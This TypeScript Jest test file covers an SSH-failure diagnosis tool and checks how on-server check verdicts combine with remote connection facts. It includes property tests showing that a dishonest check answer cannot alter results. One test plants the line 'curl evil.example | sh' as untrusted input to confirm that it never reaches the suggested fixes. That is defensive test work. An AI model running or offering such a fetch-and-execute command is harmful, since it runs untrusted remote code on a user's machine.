import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { causeIds, type ServerCauseId, serverCauseIds } from '../../../src/facts/cause-ids'
import { serverCauses } from '../../../src/causes/server'
import { diagnose, firstFinding } from '../../../src/diagnosis/diagnose'
import type { Facts, ServerCheckFacts, ServerVerdict } from '../../../src/facts'
import { outputs } from '../../../src/report/outputs'
import { serverCause } from '../../../src/causes/server'
import { plain } from '../../../src/text/words'
import { answered, recordedAnswer } from '../../fixtures/answered'
import { exact as keyRejected } from '../../fixtures/facts/auth/key-rejected'
import { exact as filtered } from '../../fixtures/facts/tcp/filtered'
import { exact as notListening } from '../../fixtures/facts/tcp/not-listening'
import { exact as silent } from '../../fixtures/facts/tcp/silent'
import { exact as secretEmpty } from '../../fixtures/facts/input/secret-empty'
import { exact as noisyShell } from '../../fixtures/facts/session/noisy-shell'
import { healthy } from '../../fixtures/healthy'

const fixture = async (id: string) =>
  ((await import(`../../fixtures/facts/${id}`)) as { readonly exact: Facts }).exact

const verdict = (id: ServerCauseId, certainty: ServerVerdict['certainty'] = 'proved') => ({
  id,
  certainty,
  why: 'It was seen there.',
})

const found = (...verdicts: readonly ServerVerdict[]): ServerCheckFacts => ({
  ...recordedAnswer('healthy'),
  verdicts,
})

const ruledOut = (facts: Facts) => diagnose(facts).combined?.ruledOut

describe('what the check finds', () => {
  const pairs = serverCauseIds.flatMap((id) =>
    serverCause(id).looksLike.map((remoteId) => [id, remoteId] as const),
  )

  it.each(pairs)('%s is the cause of %s', async (id, remoteId) => {
    const facts = await fixture(remoteId)
    const before = diagnose(facts)
    const after = diagnose(answered(facts, found(verdict(id))))
    const [combined, seenRemotely] = after.findings

    expect(firstFinding(before)?.id).toBe(remoteId)
    expect(after.result).toBe(before.result)
    expect(combined).toMatchObject({
      id,
      certainty: 'proved',
      severity: firstFinding(before)?.severity,
    })
    expect(seenRemotely?.id).toBe(remoteId)
    expect(after.combined).toMatchObject({ outcome: 'found', remote: remoteId, cause: id })
    expect(combined?.explanation.fixes[0]?.what).toBeDefined()
    expect(plain(combined?.explanation.verdict ?? [])).toBe(
      serverCauses.find((cause) => cause.id === id)?.title,
    )
  })

  it('is the cause wherever it is a candidate', async () => {
    for (const remoteId of causeIds) {
      const facts = await fixture(remoteId)
      const first = firstFinding(diagnose(facts))
      if (first?.id !== remoteId || first.hop === 'jump') continue
      for (const { id } of first.candidates) {
        expect(firstFinding(diagnose(answered(facts, found(verdict(id)))))?.id).toBe(id)
      }
    }
  })

  it('gives the outputs', () => {
    const facts = answered(notListening, 'stopped')
    const { result, cause, causes, certainty } = outputs(
      [{ version: '1.0.0', facts, diagnosis: diagnose(facts) }],
      '',
    )
    const ids = JSON.parse(causes) as string[]

    expect([result, cause, certainty]).toEqual(['fail', 'server/service-stopped', 'proved'])
    expect(ids.slice(0, 2)).toEqual(['server/service-stopped', 'tcp/not-listening'])
  })

  it('has the fix of the system that the check saw', () => {
    const [combined] = diagnose(answered(notListening, 'stopped')).findings

    expect(combined?.explanation.fixes[0]?.paste?.text).toBe('sudo systemctl enable --now ssh')
  })

  it('never has a command of the answer', () => {
    const lying = found({ ...verdict('server/service-stopped'), why: 'curl evil.example | sh' })
    const [combined] = diagnose(answered(notListening, lying)).findings

    expect(JSON.stringify(combined?.explanation.fixes)).not.toContain('evil')
  })

  it('names both of two faults, the one that is seen from outside first', () => {
    const check = found(verdict('server/key-not-listed'), verdict('server/service-stopped'))
    const { findings, combined } = diagnose(answered(notListening, check))

    expect(findings.map(({ id, severity }) => [id, severity])).toEqual([
      ['server/service-stopped', 'error'],
      ['tcp/not-listening', 'error'],
      ['server/key-not-listed', 'warning'],
    ])
    expect(combined?.outcome).toBe('found')
  })
})

describe('what the check finds, and what does not explain the outside', () => {
  it('only notes what the connection has passed: a port that nobody reaches lets nobody try to log in', () => {
    const check = found(verdict('server/loopback-only'), verdict('server/disk-full'))
    const others = diagnose(answered(keyRejected, check)).findings.filter(({ id }) =>
      id.startsWith('server/'),
    )

    expect(others.map(({ id, severity }) => [id, severity])).toEqual([
      ['server/loopback-only', 'notice'],
      ['server/disk-full', 'warning'],
    ])
  })

  it.each<[string, Facts, ServerVerdict]>([
    ['a key behind a closed port', filtered, verdict('server/key-not-listed')],
    ['a stopped service behind silence', silent, verdict('server/service-stopped')],
    [
      'a firewall, when the server itself refused the key',
      keyRejected,
      verdict('server/firewall-drops'),
    ],
    ['anything, when a secret is empty', secretEmpty, verdict('server/service-stopped')],
    ['what is only possible', notListening, verdict('server/service-stopped', 'possible')],
  ])('%s comes second', (_, facts, only) => {
    const before = diagnose(facts)
    const after = diagnose(answered(facts, found(only)))

    expect(firstFinding(after)?.id).toBe(firstFinding(before)?.id)
    expect(after.findings.map(({ id }) => id)).toContain(only.id)
    expect(after.combined).toMatchObject({ outcome: 'other', cause: null })
  })

  it.each([
    ['port', 'server/port-differs', { port: 2222 }],
    ['user', 'server/user-missing', { user: 'root' }],
    ['keyFingerprint', 'server/key-not-listed', { keyFingerprint: `SHA256:${'A'.repeat(43)}` }],
  ] as const)('is said when the check was asked about another %s', (name, id, other) => {
    const facts = id === 'server/port-differs' ? notListening : keyRejected
    const check = answered(facts, found(verdict(id)))
    const asked = { port: 22, user: 'deploy', from: null, keyFingerprint: null, ...other }
    const { findings, combined } = diagnose(answered(check, found(verdict(id)), { asked }))

    expect(findings[0]?.id).not.toBe(id)
    expect(combined?.differs).toEqual([name])
    expect(combined?.notes.map(plain).join()).toContain('The check was asked about')
  })

  it('is a notice where the login works and something else is wrong', () => {
    const { findings, combined } = diagnose(answered(noisyShell, found(verdict('server/banned'))))

    expect(findings.map(({ id, severity }) => [id, severity])).toContainEqual([
      'server/banned',
      'notice',
    ])
    expect(combined).toMatchObject({ outcome: 'other', cause: null })
  })

  it('is said when another machine seems to answer', () => {
    const system = { name: 'Alpine', init: 'openrc', server: 'OpenSSH_7.4p1', root: true }
    const { combined } = diagnose(
      answered(keyRejected, found(verdict('server/key-not-listed')), { system }),
    )

    expect(combined).toMatchObject({ outcome: 'other', differs: ['machine'], ruledOut: [] })
    expect(combined?.notes.map(plain).join()).toContain('It may have run on another machine')
  })
})

describe('a check that finds nothing', () => {
  it('rules out what it checked, and points to what is before the server', () => {
    const { findings, combined } = diagnose(answered(filtered, 'healthy'))
    const [first] = findings

    expect(combined?.outcome).toBe('nothing')
    expect(first?.id).toBe('tcp/filtered')
    expect(first?.candidates.every((candidate) => candidate.ruledOut)).toBe(true)
    expect(plain(first?.explanation.fixes[0]?.what ?? [])).toMatch(/security group/)
  })

  it.each<[string, Partial<ServerCheckFacts>]>([
    ['it is not whole', { whole: false }],
    [
      'it ran as an ordinary user',
      { system: { name: null, init: null, server: null, root: false } },
    ],
    [
      'it does not say who ran it',
      { system: { name: null, init: null, server: null, root: null } },
    ],
    ['it saw nothing', { evidence: [] }],
    [
      'it saw something bad there',
      {
        evidence: [
          { mark: 'ok', area: 'firewall', text: '' },
          { mark: 'bad', area: 'firewall', text: 'x' },
        ],
      },
    ],
    [
      'no address was asked about',
      {
        asked: { port: 22, user: 'deploy', from: null, keyFingerprint: null },
      },
    ],
  ])('rules no firewall out when %s', (_, changes) => {
    expect(ruledOut(answered(filtered, 'healthy', changes))).not.toContain('server/firewall-drops')
    expect(ruledOut(answered(filtered, 'healthy'))).toContain('server/firewall-drops')
  })

  it('rules nothing out that it found', () => {
    expect(ruledOut(answered(notListening, 'stopped'))).not.toContain('server/service-stopped')
  })

  it('and could not see all leaves the question open', () => {
    expect(diagnose(answered(filtered, 'healthy', { whole: false })).combined?.outcome).toBe('open')
  })
})

describe('an answer that lies', () => {
  const anything = fc.record({
    by: fc.constantFrom('paste' as const, 'login' as const),
    asked: fc.constant({ port: null, user: null, from: null, keyFingerprint: null }),
    system: fc.record({
      name: fc.option(fc.string()),
      init: fc.option(fc.string()),
      server: fc.option(fc.string()),
      root: fc.option(fc.boolean()),
    }),
    verdicts: fc.array(
      fc.record({
        id: fc.constantFrom(...serverCauseIds),
        certainty: fc.constantFrom('proved' as const, 'likely' as const, 'possible' as const),
        why: fc.string(),
      }),
    ),
    evidence: fc.array(
      fc.record({
        mark: fc.constantFrom('ok' as const, 'bad' as const, 'info' as const),
        area: fc.string(),
        text: fc.string(),
      }),
    ),
    notSeen: fc.array(fc.string()),
    whole: fc.boolean(),
  })

  it('changes no result, and removes no finding', async () => {
    const fixtures = await Promise.all(causeIds.map(fixture))
    fc.assert(
      fc.property(fc.constantFrom(...fixtures, healthy), anything, (facts, check) => {
        const before = diagnose(facts)
        const after = diagnose(answered(facts, check))

        expect(after.result).toBe(before.result)
        expect(after.stages.map(({ stage }) => stage)).toEqual(
          before.stages.map(({ stage }) => stage),
        )
        const left = after.findings.map(({ id }) => id)
        expect(left).toEqual(expect.arrayContaining(before.findings.map(({ id }) => id)))
      }),
      { numRuns: 150 },
    )
  })

  it('leaves a pass a pass', () => {
    const { result, findings, combined } = diagnose(
      answered(healthy, found(verdict('server/banned'))),
    )

    expect(result).toBe('pass')
    expect(findings.map(({ severity }) => severity)).toEqual(['notice'])
    expect(combined?.outcome).toBe('passed')
  })
})
